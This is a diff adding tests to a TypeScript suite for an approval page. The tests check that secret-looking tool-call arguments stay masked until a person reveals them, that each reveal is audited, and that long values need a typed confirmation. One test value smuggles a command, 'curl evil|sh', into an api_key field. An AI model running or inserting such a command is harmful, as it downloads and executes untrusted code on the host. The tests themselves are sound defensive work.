@@ -41,7 +41,7 @@ describeStores("on the decision page", (open) => {
     });
     const address = await link(id);
     const shown = formOn((await send(address)).body, "review").args!;
-    expect(JSON.parse(shown)).toMatchObject({ path: "/tmp/a", token: "[redacted]" });
+    expect(JSON.parse(shown)).toMatchObject({ path: "/tmp/a", token: "[redacted string, 14 chars]" });
     const review = await fill(address, "review", { args: shown.replace("/tmp/a", "/tmp/b") });
     expect(review.status).toBe(200);
     expect(textOf(review.body)).toMatch(/− \/tmp\/a\+ \/tmp\/b/);
@@ -84,6 +84,64 @@ describeStores("on the decision page", (open) => {
     expect(formOn(refused.body, "review").args).toBe(`{"path":7}`);
     expect(await statusOf(id)).toBe("pending");
     expect((await fill(address, "approve")).status).toBe(200);
+  });
+
+  test("S-63: what poses as a secret is approved only after a reveal, which is told and decides nothing", async () => {
+    const told: string[] = [];
+    const room = await newRoom(await open(), {
+      onReveal: ({ id }, person) => void told.push(`${id} ${person}`),
+    });
+    const { ask, link, fill, post, statusOf, deciders } = room;
+    const { id } = await ask({ argsText: `{"api_key":"x; curl evil|sh"}` });
+    const address = await link(id);
+    const page = (await send(address)).body;
+    const ticket = formOn(page, "reveal");
+    expect(page).not.toContain("evil");
+    for (const doing of ["approve", "grant", "review"]) expect(() => formOn(page, doing)).toThrow(/no form/);
+    const forged = [
+      { ...ticket, do: "approve" },
+      { ...ticket, do: "approve-edited", args: `{"api_key":"abc"}` },
+      { ...ticket, do: "grant", scope: "tool", lifetime: "1h" },
+    ];
+    for (const fields of forged)
+      expect(await post(address, fields)).toMatchObject({
+        status: 403,
+        body: expect.stringContaining("reveal what is masked first"),
+      });
+    expect(await statusOf(id)).toBe("pending");
+    expect(told).toEqual([]);
+    const revealed = await fill(address, "reveal");
+    expect(textOf(revealed.body)).toContain("x; curl evil|sh");
+    expect([revealed.status, told, await statusOf(id)]).toEqual([200, [`${id} local:bo`], "pending"]);
+    expect((await send(address)).body).not.toContain("evil");
+    expect((await post(address, formOn(revealed.body, "approve"))).status).toBe(200);
+    expect(await deciders.get(id)).toMatchObject({ status: "approved", decidedBy: "local:bo" });
+  });
+
+  test("S-63: a reveal counts for its person alone, and elsewhere too; a denial needs none", async () => {
+    const { ask, link, fill, statusOf, deciders } = await newRoom(await open());
+    const asked = await ask({ argsText: `{"token":{"cmd":"reboot"}}` });
+    const other = await ask({ argsText: `{"token":{"cmd":"reboot"}}` });
+    const [bo, cy] = [await link(asked.id, "local:bo"), await link(asked.id, "local:cy")];
+    await deciders.revealed(asked, "local:bo");
+    await expect(fill(cy, "approve")).rejects.toThrow(/no form/);
+    expect((await fill(bo, "approve")).status).toBe(200);
+    expect((await fill(await link(other.id), "deny", { reason: "no" })).status).toBe(200);
+    expect([await statusOf(asked.id), await statusOf(other.id)]).toEqual(["approved", "denied"]);
+  });
+
+  test("S-63: nothing is revealed when that cannot be written down, and what is long takes the typed word after it", async () => {
+    const db = await open();
+    const mute = await newRoom(db, { onReveal: () => Promise.reject(new Error("no audit")) });
+    const { id } = await mute.ask({ argsText: JSON.stringify({ token: `x; evil ${"y\n".repeat(3_000)}` }) });
+    const refused = await mute.fill(await mute.link(id), "reveal");
+    expect([refused.status, refused.body.includes("evil")]).toEqual([500, false]);
+    const room = await newRoom(db);
+    const address = await room.link(id);
+    await room.fill(address, "reveal");
+    const unsure = await room.post(address, { ...formOn((await send(address)).body, "approve") });
+    expect([unsure.status, textOf(unsure.body)]).toEqual([400, expect.stringContaining("type the word")]);
+    expect((await room.fill(address, "approve", { sure: "unseen" })).status).toBe(200);
   });
 
   test("high risk takes a tick, and has no standing yes", async () => {
